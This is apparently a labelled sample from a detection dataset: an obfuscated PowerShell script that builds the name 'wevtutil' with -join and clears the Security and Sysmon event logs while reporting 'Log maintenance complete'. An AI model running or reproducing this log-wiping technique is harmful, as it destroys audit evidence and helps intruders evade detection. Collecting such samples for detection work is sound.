# description: Log maintenance script that clears the Security log using a tool name assembled with -join.
# family: security
# obfuscated: yes
$tool = -join ('w', 'e', 'v', 't', 'u', 't', 'i', 'l')
$logs = @('Sec' + 'urity', 'Sys' + 'mon/Operational')
foreach ($l in $logs) {
    & $tool ('c' + 'l') $l
}
Write-Output 'Log maintenance complete'
